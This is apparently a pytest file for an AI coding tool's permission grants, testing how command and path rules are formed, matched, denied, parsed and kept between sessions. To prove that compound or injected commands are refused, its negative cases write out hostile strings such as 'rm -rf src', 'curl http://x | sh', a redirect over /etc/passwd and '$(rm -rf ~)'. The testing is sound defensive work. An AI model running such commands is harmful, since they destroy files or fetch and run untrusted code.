"""Scoped grants and the person's rules (P-9.6): what "Always" grants, what a
grant covers, how rules read, and grants kept for a workspace."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest

from paicli_tui.config.settings import Settings
from paicli_tui.events import GrantKept
from paicli_tui.llm.offline.scripted import Script, ScriptedTransport
from paicli_tui.policy.saved_grants import load_saved_rules, saved_grants_file
from paicli_tui.session.live import Session
from paicli_tui.policy.grants import Grant, GrantStore, command_grant, parse_rule, proposed_grants


@pytest.mark.parametrize(("command", "rule"), [
    ("python -m pytest -q", "command: python -m pytest"),
    ("python3 -m pytest tests/test_x.py", "command: python3 -m pytest"),
    ("python manage.py migrate", "command: python manage.py"),
    ("npm test", "command: npm test"),
    ("npm run lint -- --fix", "command: npm run lint"),
    ("uv run pytest -x", "command: uv run pytest"),
    ("git status --short", "command: git status"),
    ("cargo test", "command: cargo test"),
    ("pytest -q", "command: pytest"),
    ("ls -la src", "command: ls"),
    # exact only: each use differs too much, or the command is compound
    ("rm build/out.o", "command= rm build/out.o"),
    ("python -c 'print(1)'", "command= python -c 'print(1)'"),
    ("make && make install", "command= make && make install"),
    ("pytest > log.txt", "command= pytest > log.txt"),
    ("echo $(whoami)", "command= echo $(whoami)"),
    ("FOO=1 make", "command= FOO=1 make"),
])
def test_always_for_a_command_grants_its_program_and_subcommand(command, rule):
    assert command_grant(command).rule == rule


def test_a_command_grant_covers_single_commands_with_its_prefix_only(tmp_path):
    grant = command_grant("python -m pytest -q")
    covers = lambda c: grant.covers("execute_command", {"command": c}, tmp_path)  # noqa: E731
    assert covers("python -m pytest") and covers("python -m pytest tests/ -x")
    assert not covers("python -m pip install evil")
    assert not covers("python -m pytest; rm -rf src")
    assert not covers("python -m pytest && curl http://x | sh")
    assert not covers("python -m pytest > /etc/passwd")
    assert not covers("python -m pytest $(rm -rf ~)")
    assert not grant.covers("write_file", {"path": "python"}, tmp_path)


def test_a_path_grant_covers_that_file_and_a_folder_grant_what_is_under_it(tmp_path):
    (tmp_path / "src").mkdir()
    file_grant, folder_grant = proposed_grants("edit_file", {"path": "src/app.py"}, tmp_path)
    assert (file_grant.rule, folder_grant.rule) == ("path: src/app.py", "path: src/")
    assert file_grant.covers("write_file", {"path": "./src/app.py"}, tmp_path)
    assert not file_grant.covers("write_file", {"path": "src/other.py"}, tmp_path)
    assert folder_grant.covers("write_file", {"path": "src/deep/new.py"}, tmp_path)
    assert not folder_grant.covers("write_file", {"path": "srcs/x.py"}, tmp_path)
    assert not folder_grant.covers("write_file", {"path": "src/../README.md"}, tmp_path)
    assert not folder_grant.covers("write_file", {"path": "../outside/src/x"}, tmp_path)
    assert not folder_grant.covers("execute_command", {"command": "src/"}, tmp_path)


def test_a_deny_rule_matches_any_part_of_a_command(tmp_path):
    store = GrantStore(tmp_path, allow=[parse_rule("command: git")], deny=[parse_rule("command: git push")])
    assert store.denying("execute_command", {"command": "make && git push --force"}) is not None
    assert store.denying("execute_command", {"command": "git status"}) is None
    assert store.allowing("execute_command", {"command": "git status"}) is not None


@pytest.mark.parametrize(("text", "kind", "pattern"), [
    ("command: python -m pytest", "command", "python -m pytest"),
    ("command= make deploy", "exact", "make deploy"),
    ("path: src/app.py", "file", "src/app.py"),
    ("path: src/", "directory", "src/"),
    ("path: src/**", "directory", "src/"),
    ("path: .", "directory", "./"),
])
def test_rules_read(text, kind, pattern):
    grant = parse_rule(text)
    assert (grant.kind, grant.pattern, grant.source) == (kind, pattern, "config")
    assert parse_rule(grant.rule) == grant  # a rule line reads back as itself


@pytest.mark.parametrize("text", ["bogus", "command:", "path: /etc/", "path: ../x", "tool: x", "command: 'open"])
def test_bad_rules_are_one_line_errors(text):
    with pytest.raises(ValueError, match="rule"):
        parse_rule(text)


def test_a_bad_rule_in_config_names_the_rule():
    with pytest.raises(ValueError, match="path: /etc"):
        Settings(permissions={"allow": ["path: /etc/"]})


def _session(tmp_path: Path) -> Session:
    settings = Settings(provider="custom", base_url="http://scripted.invalid/v1", model="m")
    return Session(settings, tmp_path / "ws", transport=ScriptedTransport(Script()))


def test_a_kept_grant_is_there_in_the_next_session_and_revoking_removes_it(tmp_path, paicli_home):
    (tmp_path / "ws").mkdir()
    first = _session(tmp_path)
    seen: list = []
    first.bus.subscribe(seen.append)
    grant = command_grant("npm test")
    first.grants.add(grant)
    first.keep_grant(grant)
    first.close()
    assert [e.rule for e in seen if isinstance(e, GrantKept)] == ["command: npm test"]
    assert load_saved_rules(tmp_path / "ws") == ["command: npm test"]

    second = _session(tmp_path)
    try:
        (kept,) = second.grants.kept_grants
        assert kept == Grant("command", "npm test", "workspace")
        assert second.grants.allowing("execute_command", {"command": "npm test -- -u"}) == kept
        assert second.revoke_grant(kept)
        assert load_saved_rules(tmp_path / "ws") == []
    finally:
        second.close()


def test_an_unreadable_kept_grants_file_is_a_warning_not_a_crash(tmp_path, paicli_home):
    (tmp_path / "ws").mkdir()
    saved_grants_file().write_text("[[workspace]\nbroken", encoding="utf-8")
    session = _session(tmp_path)
    try:
        (warning,) = session.warnings
        assert "permissions.toml: not valid TOML" in warning and warning.endswith("kept grants ignored")
        assert session.grants.kept_grants == ()
    finally:
        session.close()


def test_grants_are_thread_safe(tmp_path):
    store = GrantStore(tmp_path)
    grants = [command_grant(f"make target{i}") for i in range(200)]
    threads = [threading.Thread(target=lambda g=g: store.add(g)) for g in grants]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert set(store.session_grants) == set(grants)
